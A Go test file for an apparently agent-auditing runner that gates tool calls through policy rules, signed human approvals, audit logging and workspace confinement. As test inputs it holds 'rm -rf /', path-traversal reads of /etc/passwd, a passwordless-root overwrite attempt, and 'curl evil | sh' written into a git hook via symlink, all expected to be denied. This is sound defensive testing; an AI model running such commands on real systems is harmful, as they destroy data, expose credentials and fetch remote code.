package runner

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/agentaudit/agentaudit/internal/approvals/signing"
	"github.com/agentaudit/agentaudit/internal/eventlog"
	"github.com/agentaudit/agentaudit/internal/events"
)

func TestCallAllowRunsAndRecords(t *testing.T) {
	g := newRig(t)
	s := g.open(t)
	res, err := s.Call(context.Background(), Call{Tool: ToolShell, Command: "go test ./...", Raw: []byte(`{"command":"go test ./..."}`)})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([][]string{{"/workspace", "bash", "-c", "go test ./..."}}, g.sb.ran()); diff != "" {
		t.Errorf("executed (-want +got):\n%s", diff)
	}
	if res.Exec.ExitCode != 0 || res.Reason != events.ReasonAllowlisted || res.RuleID != "sandboxed-shell" {
		t.Errorf("result: exit %d reason %s rule %s", res.Exec.ExitCode, res.Reason, res.RuleID)
	}
	g.em.waitFor(t, s.ID(), events.TypeToolCallCompleted, 0)
	want := []string{events.TypeSessionStarted, events.TypeToolCallRequested, events.TypePolicyDecision, events.TypeToolCallCompleted}
	if diff := cmp.Diff(want, g.em.types(s.ID())); diff != "" {
		t.Errorf("events (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([][3]string{{"allow", "allowlisted", "none"}}, g.em.decisions(t, s.ID())); diff != "" {
		t.Errorf("decisions (-want +got):\n%s", diff)
	}
	// The session's events form one valid chain under the runner's id.
	if err := events.VerifyChain(g.em.all()); err != nil {
		t.Errorf("chain: %v", err)
	}
	started := g.em.waitFor(t, s.ID(), events.TypeSessionStarted, 0)
	p, _ := started.DecodePayload()
	ss := p.(*events.SessionStarted)
	if ss.SandboxProfileSHA256 == "" || ss.Operator != "alice" || ss.Client == nil || ss.Client.Name != "test-agent" || started.Agent == nil {
		t.Errorf("session.started lacks profile hash, operator or client: %+v agent %+v", ss, started.Agent)
	}
	dec := g.em.waitFor(t, s.ID(), events.TypePolicyDecision, 0)
	if dec.Policy == nil || dec.Policy.SHA256 != g.r.Policy().SHA256() {
		t.Errorf("policy.decision policy = %+v, want sha256 %s", dec.Policy, g.r.Policy().SHA256())
	}
}

func TestCallDenyRunsNothing(t *testing.T) {
	g := newRig(t)
	s := g.open(t)
	_, err := s.Call(context.Background(), Call{Tool: ToolShell, Argv: []string{"rm", "-rf", "/"}})
	var d *DeniedError
	if !errors.As(err, &d) || d.Reason != events.ReasonDeniedByRule || d.RuleID != "destroy-root" {
		t.Fatalf("err = %v, want denied_by_rule by destroy-root", err)
	}
	if len(g.sb.ran()) != 0 {
		t.Errorf("denied call executed: %v", g.sb.ran())
	}
	want := []string{events.TypeSessionStarted, events.TypeToolCallRequested, events.TypePolicyDecision}
	if diff := cmp.Diff(want, g.em.types(s.ID())); diff != "" {
		t.Errorf("events (-want +got):\n%s", diff)
	}
}

// approvalCase drives one ask: answer is called with the approval.requested
// event once it is acknowledged.
type approvalCase struct {
	name       string
	answer     func(t *testing.T, g *rig, req *events.Envelope)
	wantReason events.ReasonCode // "" means the call ran
	wantRan    bool
	wantDec    [][3]string
	rejected   signing.Code // a decision refused with this code
}

func TestApprovalPaths(t *testing.T) {
	other, _, err := signing.GenerateKey("approvals-test-1") // same key id, other key: a forgery
	if err != nil {
		t.Fatal(err)
	}
	ask := [3]string{"ask", "needs_approval", "required"}
	cases := []approvalCase{
		{name: "approved once runs", wantRan: true,
			answer: func(t *testing.T, g *rig, req *events.Envelope) {
				g.r.Dispatch(g.decide(t, g.signer, req, events.ApprovalApproved, events.ScopeOnce))
			},
			wantDec: [][3]string{ask, {"allow", "approved", "once"}}},
		{name: "denied is denied", wantReason: events.ReasonApprovalDenied,
			answer: func(t *testing.T, g *rig, req *events.Envelope) {
				g.r.Dispatch(g.decide(t, g.signer, req, events.ApprovalDenied, ""))
			},
			wantDec: [][3]string{ask, {"deny", "approval_denied", "required"}}},
		{name: "nobody answers: expired", wantReason: events.ReasonApprovalExpired,
			answer:  func(*testing.T, *rig, *events.Envelope) {},
			wantDec: [][3]string{ask, {"deny", "approval_expired", "required"}}},
		{name: "forged with another key is refused", wantReason: events.ReasonApprovalExpired, rejected: signing.CodeBadSignature,
			answer: func(t *testing.T, g *rig, req *events.Envelope) {
				g.r.Dispatch(g.decide(t, other, req, events.ApprovalApproved, events.ScopeOnce))
			},
			wantDec: [][3]string{ask, {"deny", "approval_expired", "required"}}},
		{name: "decision for another approval id is refused", wantReason: events.ReasonApprovalExpired, rejected: signing.CodeRequestMismatch,
			answer: func(t *testing.T, g *rig, req *events.Envelope) {
				// A valid signature for a different request, relabelled with
				// this request's approval id.
				ref, _ := signing.RefOf(req)
				ref.ApprovalID, ref.RequestEventID = g.ids.Next().String(), g.ids.Next().String()
				d := signedDecision(t, g.signer, g.ids, ref, events.ApprovalApproved, events.ScopeOnce)
				d.ApprovalID = req.ApprovalID
				g.r.Dispatch(d)
			},
			wantDec: [][3]string{ask, {"deny", "approval_expired", "required"}}},
		{name: "partial approval is not acted on", wantReason: events.ReasonApprovalExpired,
			answer: func(t *testing.T, g *rig, req *events.Envelope) {
				ref, _ := signing.RefOf(req)
				d := events.ApprovalDecided{Decision: events.ApprovalApproved, ReasonCode: events.ReasonNeedsApproval,
					Scope: events.ScopeOnce, Approver: events.Actor{Type: events.ActorHuman, ID: "bob"}, DecidedAt: events.At(time.Now())}
				env, _ := events.New(d, events.WithEventID(g.ids.Next().String()), events.WithApproval(ref.ApprovalID),
					events.WithSession(ref.SessionID, "approvals-test"), events.WithTenant(ref.Tenant),
					events.WithParent(ref.RequestEventID), events.WithActor(events.ActorHuman, "bob"))
				if err := g.signer.Sign(env, ref); err != nil {
					t.Fatal(err)
				}
				g.r.Dispatch(env)
			},
			wantDec: [][3]string{ask, {"deny", "approval_expired", "required"}}},
		{name: "signed expiry is expired", wantReason: events.ReasonApprovalExpired, rejected: signing.CodeNotDue,
			answer: func(t *testing.T, g *rig, req *events.Envelope) {
				// An "expired" outcome before the deadline is refused; the
				// deadline then passes.
				g.r.Dispatch(g.decide(t, g.signer, req, events.ApprovalExpired, ""))
			},
			wantDec: [][3]string{ask, {"deny", "approval_expired", "required"}}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			g := newRig(t, WithApprovalTimeout(700*time.Millisecond))
			s := g.open(t)
			ch := asyncCall(s, Call{Tool: ToolShell, Command: "git push origin main"})
			req := g.em.waitFor(t, s.ID(), events.TypeApprovalRequested, 0)
			if req.ApprovalID != req.EventID {
				t.Errorf("approval_id %s != event_id %s", req.ApprovalID, req.EventID)
			}
			tc.answer(t, g, req)
			o := waitOutcome(t, ch)
			if got := ReasonOf(o.err); got != tc.wantReason {
				t.Errorf("reason = %q (err %v), want %q", got, o.err, tc.wantReason)
			}
			if ran := len(g.sb.ran()) > 0; ran != tc.wantRan {
				t.Errorf("ran = %v, want %v", ran, tc.wantRan)
			}
			if diff := cmp.Diff(tc.wantDec, g.em.decisions(t, s.ID())); diff != "" {
				t.Errorf("decisions (-want +got):\n%s", diff)
			}
			if tc.rejected != "" && g.r.Stats().Rejected(tc.rejected) != 1 {
				t.Errorf("decisions rejected with %s = %d, want 1", tc.rejected, g.r.Stats().Rejected(tc.rejected))
			}
		})
	}
}

func TestReplayedDecisionIsRefused(t *testing.T) {
	g := newRig(t, WithApprovalTimeout(700*time.Millisecond))
	s := g.open(t)
	ch := asyncCall(s, Call{Tool: ToolShell, Command: "git push"})
	req1 := g.em.waitFor(t, s.ID(), events.TypeApprovalRequested, 0)
	d1 := g.decide(t, g.signer, req1, events.ApprovalApproved, events.ScopeOnce)
	g.r.Dispatch(d1)
	if o := waitOutcome(t, ch); o.err != nil {
		t.Fatalf("first call: %v", o.err)
	}
	// The same decision again, while a second call waits: refused as a
	// replay, and the second call is not approved by it.
	ch = asyncCall(s, Call{Tool: ToolShell, Command: "git push"})
	g.em.waitFor(t, s.ID(), events.TypeApprovalRequested, 1)
	g.r.Dispatch(d1)
	if o := waitOutcome(t, ch); ReasonOf(o.err) != events.ReasonApprovalExpired {
		t.Errorf("second call: %v, want approval_expired", o.err)
	}
	if n := g.r.Stats().Rejected(signing.CodeReplay); n != 1 {
		t.Errorf("replays rejected = %d, want 1", n)
	}
	if n := len(g.sb.ran()); n != 1 {
		t.Errorf("executions = %d, want 1", n)
	}
}

func TestSessionScopedApprovalIsReused(t *testing.T) {
	g := newRig(t)
	s := g.open(t)
	ch := asyncCall(s, Call{Tool: ToolShell, Command: "git push origin main"})
	req := g.em.waitFor(t, s.ID(), events.TypeApprovalRequested, 0)
	g.r.Dispatch(g.decide(t, g.signer, req, events.ApprovalApproved, events.ScopeSession))
	if o := waitOutcome(t, ch); o.err != nil || o.res.Reason != events.ReasonApprovedForSession {
		t.Fatalf("first call: %+v", o)
	}
	res, err := s.Call(context.Background(), Call{Tool: ToolShell, Argv: []string{"git", "push", "--tags"}})
	if err != nil || res.Reason != events.ReasonApprovedForSession {
		t.Fatalf("second call: %v %+v", err, res)
	}
	want := [][3]string{{"ask", "needs_approval", "required"}, {"allow", "approved_for_session", "session"},
		{"allow", "approved_for_session", "session"}}
	if diff := cmp.Diff(want, g.em.decisions(t, s.ID())); diff != "" {
		t.Errorf("decisions (-want +got):\n%s", diff)
	}
	n := 0
	for _, typ := range g.em.types(s.ID()) {
		if typ == events.TypeApprovalRequested {
			n++
		}
	}
	if n != 1 {
		t.Errorf("approval requests = %d, want 1", n)
	}
	// Another session does not inherit it.
	s2 := g.open(t)
	ch = asyncCall(s2, Call{Tool: ToolShell, Command: "git push"})
	g.em.waitFor(t, s2.ID(), events.TypeApprovalRequested, 0)
	s2.Close(context.Background(), events.EndCompleted)
	if o := waitOutcome(t, ch); !errors.Is(o.err, ErrDenied) {
		t.Errorf("other session's call: %v, want a denial", o.err)
	}
}

func holdEvent(t *testing.T, g *rig, s *Session, held bool) *events.Envelope {
	t.Helper()
	var p events.Payload = events.SessionHeld{Reason: "rule fired", By: events.Actor{Type: events.ActorRule, ID: "exfil"}}
	if !held {
		p = events.SessionReleased{Reason: "reviewed", By: events.Actor{Type: events.ActorHuman, ID: "bob"}}
	}
	env, err := events.New(p, events.WithEventID(g.ids.Next().String()), events.WithSession(s.ID(), "detect-test"),
		events.WithTenant("acme"), events.WithActor(events.ActorRule, "exfil"))
	if err != nil {
		t.Fatal(err)
	}
	return env
}

func TestHoldAndRelease(t *testing.T) {
	g := newRig(t)
	s := g.open(t)
	other := g.open(t)
	g.r.Dispatch(holdEvent(t, g, s, true))
	_, err := s.Call(context.Background(), Call{Tool: ToolShell, Command: "ls"})
	if ReasonOf(err) != events.ReasonSessionHeld {
		t.Fatalf("held call: %v, want session_held", err)
	}
	if len(g.sb.ran()) != 0 {
		t.Fatalf("held call ran")
	}
	if _, err := other.Call(context.Background(), Call{Tool: ToolShell, Command: "ls"}); err != nil {
		t.Errorf("other session is not held: %v", err)
	}
	g.r.Dispatch(holdEvent(t, g, s, false))
	if _, err := s.Call(context.Background(), Call{Tool: ToolShell, Command: "ls"}); err != nil {
		t.Errorf("released call: %v", err)
	}
}

func TestAuditUnavailableRunsNothing(t *testing.T) {
	g := newRig(t)
	s := g.open(t)
	g.em.down.Store(true)
	for _, c := range []Call{
		{Tool: ToolShell, Command: "touch marker"},
		{Tool: ToolWriteFile, Path: "marker", Content: []byte("x")},
	} {
		_, err := s.Call(context.Background(), c)
		if ReasonOf(err) != events.ReasonAuditUnavailable {
			t.Errorf("%s: %v, want audit_unavailable", c.Tool, err)
		}
	}
	if len(g.sb.ran()) != 0 {
		t.Errorf("executed while audit was down: %v", g.sb.ran())
	}
	if _, err := os.Stat(filepath.Join(g.ws, "marker")); !os.IsNotExist(err) {
		t.Errorf("marker exists: %v", err)
	}
	// The denials are on record (spooled): request, then deny.
	want := [][3]string{{"deny", "audit_unavailable", "none"}, {"deny", "audit_unavailable", "none"}}
	if diff := cmp.Diff(want, g.em.decisions(t, s.ID())); diff != "" {
		t.Errorf("decisions (-want +got):\n%s", diff)
	}
	// A session cannot start unrecorded.
	if _, err := g.r.OpenSession(context.Background(), SessionOptions{Workspace: g.ws}); !errors.Is(err, eventlog.ErrAuditUnavailable) {
		t.Errorf("OpenSession with audit down: %v", err)
	}
	if g.sb.closed != 1 {
		t.Errorf("sandbox of the refused session not removed: closed %d", g.sb.closed)
	}
}

func TestPathEscapesAreDenied(t *testing.T) {
	g := newRig(t)
	s := g.open(t)
	if err := os.Symlink("/etc/passwd", filepath.Join(g.ws, "pw")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../../..", filepath.Join(g.ws, "up")); err != nil {
		t.Fatal(err)
	}
	for _, c := range []Call{
		{Tool: ToolReadFile, Path: "../x"},
		{Tool: ToolReadFile, Path: "/etc/passwd"},
		{Tool: ToolReadFile, Path: "pw"},
		{Tool: ToolReadFile, Path: "up/etc/passwd"},
		{Tool: ToolWriteFile, Path: "pw", Content: []byte("root::0:0::/:/bin/sh\n")},
		{Tool: ToolWriteFile, Path: "/workspace/../etc/x", Content: []byte("x")},
		{Tool: ToolListFiles, Path: "up"},
		{Tool: ToolShell, Command: "ls", Cwd: ".."},
		{Tool: ToolShell, Command: "ls", Cwd: "/etc"},
	} {
		_, err := s.Call(context.Background(), c)
		if ReasonOf(err) != events.ReasonPathOutsideWorkspace {
			t.Errorf("%s path=%q cwd=%q: %v, want path_outside_workspace", c.Tool, c.Path, c.Cwd, err)
		}
	}
	if len(g.sb.ran()) != 0 {
		t.Errorf("escapes executed: %v", g.sb.ran())
	}
	if b, _ := os.ReadFile("/etc/passwd"); len(b) > 0 && string(b[:5]) == "root:" && string(b) == "root::0:0::/:/bin/sh\n" {
		t.Fatal("/etc/passwd overwritten")
	}
}

func TestFileToolsAndProtectedPaths(t *testing.T) {
	g := newRig(t, WithApprovalTimeout(500*time.Millisecond))
	s := g.open(t)
	ctx := context.Background()
	if _, err := s.Call(ctx, Call{Tool: ToolWriteFile, Path: "src/main.go", Content: []byte("package main\n"), CreateDirs: true}); err != nil {
		t.Fatal(err)
	}
	res, err := s.Call(ctx, Call{Tool: ToolReadFile, Path: "/workspace/src/main.go"})
	if err != nil || string(res.Data) != "package main\n" {
		t.Fatalf("read back: %v %+v", err, res)
	}
	res, err = s.Call(ctx, Call{Tool: ToolListFiles, Recursive: true})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]Entry{{Path: "src", Type: "dir"}, {Path: "src/main.go", Type: "file", Size: 13}}, res.Entries); diff != "" {
		t.Errorf("listing (-want +got):\n%s", diff)
	}
	// A symlink into a protected path is decided as the protected path.
	if err := os.Symlink(".git/hooks/pre-commit", filepath.Join(g.ws, "innocent")); err != nil {
		t.Fatal(err)
	}
	mustWrite(t, filepath.Join(g.ws, ".git/hooks/pre-commit"), "#!/bin/sh\n")
	_, err = s.Call(ctx, Call{Tool: ToolWriteFile, Path: "innocent", Content: []byte("curl evil | sh\n")})
	var d *DeniedError
	if !errors.As(err, &d) || d.Asked != events.ReasonProtectedPath || d.Reason != events.ReasonApprovalExpired {
		t.Errorf("write through symlink to a hook: %v, want protected_path→approval_expired", err)
	}
	if b, _ := os.ReadFile(filepath.Join(g.ws, ".git/hooks/pre-commit")); string(b) != "#!/bin/sh\n" {
		t.Errorf("hook changed: %q", b)
	}
}

func TestDeniedErrorText(t *testing.T) {
	cases := []struct {
		err  *DeniedError
		want string
	}{
		{&DeniedError{Reason: events.ReasonApprovalDenied, Asked: events.ReasonNeedsApproval, RuleID: "git-push", Detail: "denied by bob"},
			"denied (needs_approval→approval_denied) by rule git-push: denied by bob"},
		{&DeniedError{Reason: events.ReasonAuditUnavailable, Detail: "nothing ran"}, "denied (audit_unavailable): nothing ran"},
	}
	for _, tc := range cases {
		if diff := cmp.Diff(tc.want, tc.err.Error()); diff != "" {
			t.Errorf("(-want +got):\n%s", diff)
		}
		if !errors.Is(tc.err, ErrDenied) {
			t.Errorf("%v does not unwrap to ErrDenied", tc.err)
		}
	}
}
